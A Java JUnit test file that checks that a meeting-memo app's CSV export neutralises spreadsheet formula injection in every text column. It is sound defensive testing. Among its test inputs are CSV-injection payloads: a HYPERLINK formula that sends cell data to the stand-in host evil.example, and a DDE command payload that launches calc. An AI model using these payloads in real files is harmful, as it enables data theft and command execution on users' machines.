package io.meetingmemo.actionitem.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import io.meetingmemo.actionitem.domain.ActionItem;
import io.meetingmemo.actionitem.domain.PageContent;
import io.meetingmemo.actionitem.domain.TrackerState;
import io.meetingmemo.memo.domain.ActionSource;
import io.meetingmemo.memo.domain.ActionStatus;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The CSV export neutralises spreadsheet formulas in every text cell (OWASP "CSV injection"). */
class ActionItemCsvTest {
    private static final List<String> TEXT_COLUMNS = List.of("text", "owner", "follow-up", "memo", "series", "page", "space");

    @Test
    void cellsThatASpreadsheetWouldReadAsAFormulaGetALeadingQuoteAndKeepTheRestByteForByte() throws Exception {
        for (String hostile : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
                "\t=1+1", "\r=1+1", "=", "-", "=ä😀\"quoted\",comma\nline")) {
            CSVRecord row = export(item(hostile), hostile);
            for (String column : TEXT_COLUMNS) {
                assertEquals("'" + hostile, row.get(column), column + " of " + hostile);
            }
            assertEquals("2026-12-03", row.get("due date"), "dates the app writes itself are left alone");
            assertEquals("7", row.get("id"));
        }
    }

    @Test
    void ordinaryTextIsUnchanged() throws Exception {
        for (String plain : List.of("Översätt kampanjtexterna", "'=already quoted", " =leading space", "1-2", "a=b", "")) {
            CSVRecord row = export(item(plain), plain);
            for (String column : TEXT_COLUMNS) assertEquals(plain, row.get(column), column + " of " + plain);
        }
    }

    @Test
    void theNeutralisingRuleItself() {
        assertEquals("'=1", ActionItemCsv.neutralised("=1"));
        assertEquals("'\r", ActionItemCsv.neutralised("\r"));
        assertEquals("x=1", ActionItemCsv.neutralised("x=1"));
        assertEquals(null, ActionItemCsv.neutralised(null));
        assertFalse(ActionItemCsv.neutralised("@x").startsWith("@"));
    }

    private static ActionItem item(String s) {
        Instant now = Instant.parse("2026-11-28T10:00:00Z");
        return new ActionItem(7, new PageContent(42, s, s, "m1", s, LocalDate.of(2026, 11, 20), s, "a1", ActionSource.MACRO, s,
                null, s, LocalDate.of(2026, 12, 3), null, "k-follow-up"), TrackerState.ofNewItem(ActionStatus.OPEN, null, now));
    }

    @Test
    void theFollowUpOwnerIsWrittenForAnOwnerWithoutAnAccountOnly() throws Exception {
        Instant now = Instant.parse("2026-11-28T10:00:00Z");
        ActionItem assigned = new ActionItem(8, new PageContent(42, "EDU", "Muistio", "m1", "Muistio", null, null, "a2", ActionSource.MACRO,
                "Varaa tila", "k-mikko", null, null, null, "k-follow-up"), TrackerState.ofNewItem(ActionStatus.OPEN, null, now));
        StringWriter out = new StringWriter();
        new ActionItemCsv(key -> key.equals("k-mikko") ? "Mikko Koskinen" : "Sanna Virtanen", i -> "u", LocalDate.of(2026, 11, 28))
                .write(List.of(item("Olli Ulkopuolinen"), assigned), out);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
                .parse(new StringReader(out.toString().substring(1))).getRecords();
        assertEquals("Olli Ulkopuolinen", rows.get(0).get("owner"));
        assertEquals("Sanna Virtanen", rows.get(0).get("follow-up"));
        assertEquals("Mikko Koskinen", rows.get(1).get("owner"));
        assertEquals("", rows.get(1).get("follow-up"), "an assignee's item is theirs; its follow-up owner is not shown");
    }

    private static CSVRecord export(ActionItem item, String owner) throws Exception {
        StringWriter out = new StringWriter();
        new ActionItemCsv(key -> owner, i -> "http://confluence.example/pages/viewpage.action?pageId=42", LocalDate.of(2026, 11, 28))
                .write(List.of(item), out);
        String csv = out.toString().substring(1);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build().parse(new StringReader(csv)).getRecords();
        assertEquals(1, rows.size());
        return rows.get(0);
    }
}
